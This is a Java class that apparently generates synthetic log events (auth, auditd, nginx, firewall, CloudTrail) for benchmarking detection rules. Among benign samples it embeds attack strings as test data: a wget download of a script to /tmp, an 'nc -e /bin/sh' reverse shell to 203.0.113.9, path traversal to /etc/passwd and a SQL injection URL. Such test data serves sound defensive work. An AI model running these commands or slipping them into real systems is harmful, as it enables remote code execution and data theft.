package org.citywall.detection.sigma;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import org.citywall.event.Event;

/**
 * A synthetic but realistic mix of decoded events for benchmarks: mostly benign traffic from the
 * sources a government cloud has (auth logs, auditd process starts, web access logs, firewall
 * records, CloudTrail), with a few percent of attacks that rules should catch.
 */
final class EventMix {
    private EventMix() {}

    private static final String[] USERS = {"root", "alice", "bob", "deploy", "www-data", "postgres", "admin"};
    private static final String[] COMMANDS = {"/usr/bin/ls -la /var/log", "/usr/bin/systemctl status nginx",
            "/usr/bin/python3 /opt/app/worker.py --queue jobs", "/bin/bash -c /opt/backup/run.sh", "/usr/bin/curl -s http://10.0.0.8/health",
            "/usr/bin/grep -r error /var/log/app", "/usr/bin/tar czf /backup/db.tgz /var/lib/db", "/usr/bin/id",
            "/usr/bin/crontab -l", "/usr/bin/wget http://203.0.113.9/x.sh -O /tmp/x.sh", "/usr/bin/base64 -d /tmp/p",
            "/usr/sbin/useradd -m tester", "/usr/bin/chmod +x /tmp/x.sh", "/usr/bin/nc -e /bin/sh 203.0.113.9 4444"};
    private static final String[] PATHS = {"/", "/index.html", "/api/v1/orders", "/static/app.js", "/login", "/health",
            "/api/v1/users?id=42", "/search?q=tax+form", "/download?file=../../etc/passwd",
            "/item?id=1%20UNION%20SELECT%20password%20FROM%20users", "/wp-login.php", "/.env"};
    private static final String[] AGENTS = {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0", "curl/8.5.0",
            "kube-probe/1.29", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Safari/604.1", "sqlmap/1.7.2"};
    private static final String[] CLOUDTRAIL = {"DescribeInstances", "GetObject", "PutObject", "AssumeRole", "ListBuckets",
            "ConsoleLogin", "CreateAccessKey", "StopLogging", "AuthorizeSecurityGroupIngress", "GetCallerIdentity"};

    static List<Event> generate(int n, Random rnd) {
        List<Event> out = new ArrayList<>(n);
        long t = Instant.parse("2026-01-15T10:00:00Z").toEpochMilli();
        for (int i = 0; i < n; i++) {
            t += rnd.nextInt(20);
            Event e = new Event().put("@timestamp", Instant.ofEpochMilli(t).toString()).put("event.id", "bench-" + i)
                    .put("citywall.domain", rnd.nextBoolean() ? "province" : "taiyuan")
                    .put("host.name", "host" + rnd.nextInt(50));
            int kind = rnd.nextInt(100);
            String ip = rnd.nextInt(10) == 0 ? "203.0.113." + rnd.nextInt(20) : "10.0." + rnd.nextInt(4) + "." + rnd.nextInt(250);
            if (kind < 25) {
                auth(e, rnd, ip);
            } else if (kind < 45) {
                String cmd = COMMANDS[rnd.nextInt(rnd.nextInt(10) == 0 ? COMMANDS.length : 9)];
                e.put("event.module", "auditd").put("event.dataset", "auditd.log").put("auditd.log.type", "EXECVE")
                        .put("process.command_line", cmd).put("process.executable", cmd.split(" ")[0])
                        .put("user.name", USERS[rnd.nextInt(USERS.length)]).put("auditd.log.a0", cmd.split(" ")[0])
                        .put("event.original", "type=EXECVE msg=audit(1768471200.123:4242): argc=3 a0=\"" + cmd + "\"");
            } else if (kind < 75) {
                String path = PATHS[rnd.nextInt(rnd.nextInt(20) == 0 ? PATHS.length : 8)];
                String ua = AGENTS[rnd.nextInt(rnd.nextInt(20) == 0 ? AGENTS.length : 4)];
                int status = path.startsWith("/.env") || path.startsWith("/wp") ? 404 : 200;
                e.put("event.module", "nginx").put("event.dataset", "nginx.access").put("source.ip", ip)
                        .put("http.request.method", rnd.nextInt(5) == 0 ? "POST" : "GET").put("url.original", path)
                        .put("url.path", path.contains("?") ? path.substring(0, path.indexOf('?')) : path)
                        .put("http.response.status_code", (long) status).put("user_agent.original", ua)
                        .put("event.original", ip + " - - [15/Jan/2026:10:00:00 +0000] \"GET " + path + " HTTP/1.1\" " + status + " 512 \"-\" \"" + ua + "\"");
            } else if (kind < 90) {
                e.put("event.module", "firewall").put("event.dataset", "firewall.log").put("source.ip", ip)
                        .put("destination.ip", "10.1.0." + rnd.nextInt(250)).put("destination.port", (long) new int[] {22, 80, 443, 3306, 8080}[rnd.nextInt(5)])
                        .put("event.action", rnd.nextInt(4) == 0 ? "deny" : "allow").put("network.transport", "tcp")
                        .put("event.original", "SRC=" + ip + " DST=10.1.0.1 PROTO=TCP");
            } else {
                String name = CLOUDTRAIL[rnd.nextInt(rnd.nextInt(10) == 0 ? CLOUDTRAIL.length : 5)];
                e.put("event.module", "aws").put("event.dataset", "aws.cloudtrail").put("event.action", name)
                        .put("aws.cloudtrail.eventName", name).put("aws.cloudtrail.eventSource", name.equals("ConsoleLogin")
                                ? "signin.amazonaws.com" : name.contains("Object") || name.contains("Bucket") ? "s3.amazonaws.com" : "ec2.amazonaws.com")
                        .put("aws.cloudtrail.userIdentity.type", rnd.nextInt(30) == 0 ? "Root" : "IAMUser")
                        .put("aws.cloudtrail.userAgent", "aws-cli/2.15.0").put("source.ip", ip)
                        .put("event.original", "{\"eventName\":\"" + name + "\"}");
            }
            out.add(e);
        }
        return out;
    }

    private static void auth(Event e, Random rnd, String ip) {
        String user = USERS[rnd.nextInt(USERS.length)];
        e.put("event.module", "system").put("event.dataset", "system.auth");
        int k = rnd.nextInt(10);
        String msg;
        if (k < 6) {
            boolean fail = ip.startsWith("203.") || rnd.nextInt(5) == 0;
            msg = (fail ? "Failed" : "Accepted") + " password for " + user + " from " + ip + " port 50000 ssh2";
            e.put("process.name", "sshd").put("event.action", "ssh_login").put("event.outcome", fail ? "failure" : "success")
                    .put("system.auth.ssh.method", "password").put("source.ip", ip).put("user.name", user);
        } else if (k < 9) {
            msg = user + " : TTY=pts/0 ; PWD=/home/" + user + " ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx";
            e.put("process.name", "sudo").put("event.action", "sudo").put("event.outcome", "success").put("user.name", user)
                    .put("system.auth.sudo.user", "root").put("process.executable", "/usr/bin/systemctl");
        } else {
            msg = "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)";
            e.put("process.name", "CRON");
        }
        e.put("message", msg).put("event.original", "<86>1 2026-01-15T10:00:00Z host sshd - - - " + msg);
    }

    static String describe(List<Event> events) {
        Map<String, Integer> counts = new TreeMap<>();
        events.forEach(e -> counts.merge(e.getString("event.dataset"), 1, Integer::sum));
        return counts.toString();
    }
}
